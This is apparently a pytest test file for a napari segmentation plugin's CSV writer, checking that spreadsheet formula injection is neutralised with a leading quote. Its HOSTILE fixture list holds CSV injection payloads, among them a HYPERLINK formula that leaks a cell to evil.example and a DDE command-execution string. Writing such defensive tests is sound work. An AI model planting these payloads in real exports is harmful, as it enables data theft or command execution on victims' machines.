"""Every CSV the project writes is safe to open in a spreadsheet: a text cell that a
spreadsheet would evaluate (= + - @ tab CR) is written with a leading quote, numbers stay
numbers, and the text stays readable."""

import csv

import numpy as np
import pytest

from napari_kmeans_segment._core.csv_safe import safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote_and_keeps_its_characters(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -0.25, 0, 7, 1.5e-9, -1e300, np.int64(-4), np.float32(-2.5)])
def test_numbers_stay_numbers(value):
    out = safe_cell(value)
    assert isinstance(out, int | float) and out == value


@pytest.mark.parametrize("text", ["-3", "+1.5", "-2.5e-3", ".5"])
def test_text_that_is_a_plain_number_is_not_quoted(text):
    assert safe_cell(text) == text


def test_empty_values_are_empty_cells_and_plain_text_is_unchanged():
    assert safe_cell(None) == "" and safe_cell(float("nan")) == "" and safe_cell(np.float64("nan")) == ""
    assert safe_cell("DAB") == "DAB" and safe_cell("a=b") == "a=b" and safe_cell(True) is True


@pytest.mark.parametrize("kind", ["columns", "rows", "frame"])
def test_write_csv_neutralises_every_text_cell_and_header(tmp_path, kind):
    names = HOSTILE
    counts = list(range(-3, len(names) - 3))
    if kind == "columns":
        table = {"name": np.array(names, dtype=object), "count": np.array(counts), "=bad": counts}
    elif kind == "rows":
        table = [{"name": n, "count": c, "=bad": c} for n, c in zip(names, counts)]
    else:
        pd = pytest.importorskip("pandas")
        table = pd.DataFrame({"name": names, "count": counts, "=bad": counts})
    path = write_csv(tmp_path / "t.csv", table)
    rows = read(path)
    assert rows[0] == ["name", "count", "'=bad"]
    assert [r[0] for r in rows[1:]] == ["'" + n for n in names]
    assert [int(r[1]) for r in rows[1:]] == counts  # negative counts stay numbers
    assert not any(is_formula(c) and not c.lstrip("-").isdigit() for r in rows for c in r)


def test_rows_with_missing_keys_get_empty_cells_in_the_given_column_order(tmp_path):
    path = write_csv(tmp_path / "t.csv", [{"a": 1}, {"b": "=x", "a": 2}], columns=["a", "b"])
    assert read(path) == [["a", "b"], ["1", ""], ["2", "'=x"]]


def test_columns_of_different_lengths_are_refused(tmp_path):
    with pytest.raises(ValueError, match="give one value per row"):
        write_csv(tmp_path / "t.csv", {"a": [1, 2], "b": [1]})


def test_an_empty_cluster_has_share_zero_and_a_share_of_nothing_is_an_empty_cell(tmp_path):
    """One convention in every table: 0 pixels of some pixels is 0.0; 0 of 0 is undefined."""
    from napari_kmeans_segment import area_table
    from napari_kmeans_segment._core import cluster_table

    some = area_table([1, 2, 3], [0, 30, 10], background=[3])
    assert some["share"].tolist() == [0.0, 0.75, 0.25] and some["tissue_share"][:2].tolist() == [0.0, 1.0]
    nothing = area_table([1, 2], [0, 0])
    assert np.isnan(nothing["share"]).all() and np.isnan(nothing["tissue_share"]).all()
    table = cluster_table([1, 2], [0, 0], np.zeros((2, 3)))
    assert np.isnan(table["fraction"]).all()
    rows = read(write_csv(tmp_path / "t.csv", table))
    assert [r[3] for r in rows[1:]] == ["", ""]  # the fraction column: empty, not 0.0
    assert cluster_table([1, 2], [0, 4], np.zeros((2, 3)))["fraction"].tolist() == [0.0, 1.0]
